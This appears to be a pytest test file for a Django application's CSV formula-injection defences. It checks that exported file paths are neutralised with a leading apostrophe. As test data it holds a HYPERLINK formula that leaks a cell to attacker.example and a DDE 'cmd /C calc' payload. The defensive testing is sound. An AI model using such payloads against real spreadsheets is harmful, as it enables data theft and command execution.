"""CSV formula injection: every CSV Provena writes shows hostile file names as text."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from django.core.management import call_command

from governance.csvsafe import csv_cell, csv_dict_writer, csv_writer
from inventory.models import Source
from inventory.sample_archive import PHOTOS_DIR
from inventory.selectors.findings import findings_document
from reports.rendering import ATTACHMENT_CSV, findings_attachments
from tests.inventory.scan_helpers import scan_folder

# Names an attacker can give files in a share that Provena scans: each runs in a spreadsheet.
HOSTILE_NAMES = (
    '=HYPERLINK("attacker.example?"&A1,"open").jpg',
    "+SUM(1+1).jpg",
    "-2+3.jpg",
    "@SUM(1).jpg",
    "\t=1+1.jpg",
    "\r=1+1.jpg",
)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["stills/0001.jpg", "a=b", "1-2", "", "'quoted"])
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


def test_a_carriage_return_in_a_name_does_not_split_its_row() -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerows([["a\rb.jpg", 1], ["c.jpg", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a\rb.jpg", "1"], ["c.jpg", "2"]]


def test_numbers_stay_numbers_even_when_negative() -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow([-4, 2.5, None, True])
    assert out.getvalue() == '-4,2.5,"","True"\n'


def test_the_dict_writer_neutralises_every_field() -> None:
    out = io.StringIO()
    writer = csv_dict_writer(out, fieldnames=["path", "size"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"path": "=cmd|' /C calc'!A0", "size": 12})
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows == [{"path": "'=cmd|' /C calc'!A0", "size": "12"}]


def test_no_module_writes_csv_without_the_safe_writer() -> None:
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for package in ("governance", "inventory", "reports")
        for path in (root / package).rglob("*.py")
        if path.name != "csvsafe.py"
        and any(w in path.read_text() for w in ("csv.writer(", "csv.DictWriter("))
    ]
    assert offenders == []


@pytest.fixture
def hostile_archive(archives: Path, role_users) -> Path:
    """Scan one source holding a photograph under its own name and under each hostile name."""
    root = archives / "hostile"
    root.mkdir()
    shutil.copyfile(PHOTOS_DIR / "astronaut.jpg", root / "astronaut.jpg")
    for name in HOSTILE_NAMES:
        shutil.copyfile(PHOTOS_DIR / "astronaut.jpg", root / name)
    scan_folder(root, name="hostile", department="LCSD")
    return root


def _csv_paths(text: str) -> set[str]:
    return {row["path"] for row in csv.DictReader(io.StringIO(text))}


def test_export_findings_csv_neutralises_hostile_paths(tmp_path, hostile_archive) -> None:
    target = tmp_path / "findings.csv"
    call_command("export_findings", "--format", "csv", "--output", str(target))

    paths = _csv_paths(target.read_bytes().decode("utf-8"))
    assert paths == {"astronaut.jpg", *("'" + name for name in HOSTILE_NAMES)}


def test_export_findings_json_keeps_the_paths_as_they_are(tmp_path, hostile_archive) -> None:
    target = tmp_path / "findings.json"
    call_command("export_findings", "--format", "json", "--output", str(target))

    (group,) = json.loads(target.read_text(encoding="utf-8"))["groups"]
    assert {m["path"] for m in group["members"]} == {"astronaut.jpg", *HOSTILE_NAMES}


def test_the_csv_embedded_in_a_report_neutralises_hostile_paths(hostile_archive) -> None:
    document = findings_document(sources=Source.objects.all())

    embedded = findings_attachments(document)[ATTACHMENT_CSV].decode("utf-8")

    assert _csv_paths(embedded) == {"astronaut.jpg", *("'" + name for name in HOSTILE_NAMES)}
